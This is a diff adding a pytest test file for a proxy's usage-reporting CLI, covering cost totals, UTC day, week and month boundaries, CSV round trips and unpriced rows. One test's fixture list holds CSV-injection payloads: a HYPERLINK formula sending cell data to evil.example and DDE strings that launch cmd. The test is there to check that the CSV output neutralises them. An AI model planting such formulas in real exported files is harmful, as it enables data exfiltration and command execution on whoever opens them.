@@ -1,0 +1,136 @@
+"""`apertis-proxy usage` reports against the raw ledger rows, on SQLite and PostgreSQL (its rollup and its raw rows):
+exact cost sums, UTC day boundaries, CSV a spreadsheet cannot run, unpriced groups never shown at $0, weeks and
+months."""
+from __future__ import annotations
+
+import csv
+import dataclasses
+import io
+import json
+from datetime import datetime, timezone
+
+import pytest
+
+from apertis_proxy import cli
+from apertis_proxy.plugin_api import UsageRecord
+from apertis_proxy.store import service
+
+DAY = int(datetime(2026, 11, 30, tzinfo=timezone.utc).timestamp())    # midnight UTC, 2026-11-30
+
+
+def _row(rid: str, ts: float, **kw) -> dict:
+    base = dict(request_id=rid, started_at=ts, endpoint="/v1/messages", status=200, key_name="alice",
+                requested_model="claude-x", channel_name="main", input_tokens=10, output_tokens=5, cost=0.1)
+    base.update(kw)
+    return dataclasses.asdict(UsageRecord(**base))
+
+
+async def _write(db: str, rows: list[dict]) -> None:
+    store = await service.open_store(db)
+    try:
+        assert await store.write_ledger(rows) == len(rows)
+    finally:
+        await store.close()
+
+
+def _usage(capsys, db: str, *argv: str) -> str:
+    capsys.readouterr()
+    code = cli.main(["usage", *argv, "--db", db])
+    out, err = capsys.readouterr()
+    assert code == 0, err
+    return out
+
+
+@pytest.fixture(params=["sqlite", "postgresql"])
+def db(request, tmp_path):
+    if request.param == "sqlite":
+        return str(tmp_path / "apertis.db")
+    return request.getfixturevalue("pg_url")
+
+
+# --- cost: exact to the ledger's precision (1e-10 USD), the same on both backends and both PG paths -------------
+
+async def test_cost_total_is_the_exact_sum_of_the_rows_costs(db, capsys):
+    # Ten rows of $0.10 each (stored exactly as the ledger keeps it, rounded to 1e-10): $1.00.
+    await _write(db, [_row(f"r{i}", DAY + 3600 + i) for i in range(10)])
+    totals = {
+        "all (rollup on PG)": json.loads(_usage(capsys, db, "--json"))["cost"],
+        "partial day (raw rows)": json.loads(_usage(capsys, db, "--json", "--since", "2026-11-30T00:00:01Z"))["cost"],
+        "--by key": json.loads(_usage(capsys, db, "--json", "--by", "key"))["by"][0]["cost"],
+    }
+    wrong = {k: v for k, v in totals.items() if v != 1.0}
+    assert not wrong, f"usage --json cost of 10 rows of $0.1 is not 1.0 (ledger precision 1e-10): {wrong!r}"
+
+
+# --- day boundaries: a row is in the day whose [since, until) holds its ts ---------------------------------------
+
+async def test_a_row_just_before_midnight_is_reported_in_its_own_day(db, capsys):
+    # time.time() has sub-millisecond digits: a request started 0.4 ms (SQLite rounds dates to ms) /
+    # 0.4 µs (PostgreSQL's to_timestamp rounds to µs) before midnight is on 2026-11-29.
+    eps = 0.0004 if not db.startswith("postgres") else 0.0000004
+    ts = DAY - eps
+    assert ts < DAY     # inside [2026-11-29, 2026-11-30): `--until 2026-11-29` counts it, as it should
+    await _write(db, [_row("late", ts)])
+    by_day = json.loads(_usage(capsys, db, "--json", "--by", "day"))["by"]
+    day29 = json.loads(_usage(capsys, db, "--json", "--since", "2026-11-29", "--until", "2026-11-29"))
+    day30 = json.loads(_usage(capsys, db, "--json", "--since", "2026-11-30", "--until", "2026-11-30"))
+    got = {"--by day": [(g["day"], g["requests"]) for g in by_day],
+           "day 29": day29["requests"], "day 30": day30["requests"]}
+    assert got == {"--by day": [("2026-11-29", 1)], "day 29": 1, "day 30": 0}, \
+        f"a row at ts={ts!r} (2026-11-29T23:59:59.9999...Z) reported in the wrong UTC day: {got!r}"
+
+
+# --- --csv: RFC 4180 round trip, and no spreadsheet formula in a cell the client chose ----------------------------
+
+_AWKWARD = ['model,with,commas', 'model "quoted"', 'model\nwith\r\nnewlines', 'plain']
+_FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0',
+             '@SUM(1+1)*cmd|\' /C calc\'!A0']
+
+
+async def test_csv_round_trips_awkward_model_names(tmp_path, capsys):
+    db = str(tmp_path / "apertis.db")
+    await _write(db, [_row(f"r{i}", DAY + i, requested_model=m) for i, m in enumerate(_AWKWARD)])
+    out = _usage(capsys, db, "--csv")
+    parsed = list(csv.reader(io.StringIO(out, newline="")))
+    header, rows = parsed[0], parsed[1:]
+    assert out.endswith("\r\n") and "requested_model" in header
+    assert [r[header.index("requested_model")] for r in rows] == _AWKWARD
+    assert [r[header.index("request_id")] for r in rows] == [f"r{i}" for i in range(len(_AWKWARD))]
+
+
+async def test_csv_does_not_hand_a_spreadsheet_a_formula_from_a_client_chosen_model(tmp_path, capsys):
+    # requested_model is whatever the client sent (allow_unpriced, or a 4xx row of an unknown model):
+    # opened in Excel/LibreOffice/Sheets, a cell starting with = + - @ runs as a formula (CSV injection).
+    db = str(tmp_path / "apertis.db")
+    await _write(db, [_row(f"r{i}", DAY + i, requested_model=m) for i, m in enumerate(_FORMULAS)])
+    out = _usage(capsys, db, "--csv")
+    parsed = list(csv.reader(io.StringIO(out, newline="")))
+    header, rows = parsed[0], parsed[1:]
+    cells = [r[header.index("requested_model")] for r in rows]
+    live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert not live, f"usage --csv writes client-chosen cells a spreadsheet evaluates as formulas: {live!r}"
+
+
+# --- unpriced rows: reported as unpriced, never as $0 -------------------------------------------------------------
+
+async def test_a_group_of_only_unpriced_rows_is_not_shown_costing_0(db, capsys):
+    await _write(db, [_row("priced", DAY + 10, requested_model="claude-x", cost=0.5),
+                      _row("free?", DAY + 20, requested_model="house-model", cost=None, input_tokens=50000)])
+    by = json.loads(_usage(capsys, db, "--json", "--by", "model"))["by"]
+    assert {g["model"]: g["unpriced_requests"] for g in by} == {"claude-x": 0, "house-model": 1}
+    text = _usage(capsys, db, "--by", "model")
+    line = next(row for row in text.splitlines() if row.startswith("house-model"))
+    assert "$0.00" not in line, ("usage --by model prints the unpriced model's cost as $0.00 (docs/billing.md:"
+                                 f" never recorded at $0; usage reports 'unpriced, N requests'):\n{text}")
+
+
+# --- weeks (from Monday) and months, UTC, the same on both backends and both PostgreSQL paths ----------------------
+
+async def test_weeks_and_months_are_utc_from_monday_on_every_path(db, capsys):
+    # 2026-11-29 is a Sunday, 2026-11-30 a Monday.
+    await _write(db, [_row("sun", DAY - 12 * 3600), _row("mon", DAY + 12 * 3600), _row("dec", DAY + 86400 + 60)])
+    for extra in ((), ("--since", "2026-11-01T00:00:01Z")):      # rollup (PG) and raw rows
+        weeks = json.loads(_usage(capsys, db, "--json", "--by", "week", *extra))["by"]
+        months = json.loads(_usage(capsys, db, "--json", "--by", "month", *extra))["by"]
+        assert [(g["week"], g["requests"]) for g in weeks] == [("2026-11-23", 1), ("2026-11-30", 2)], extra
+        assert [(g["month"], g["requests"]) for g in months] == [("2026-11-01", 2), ("2026-12-01", 1)], extra
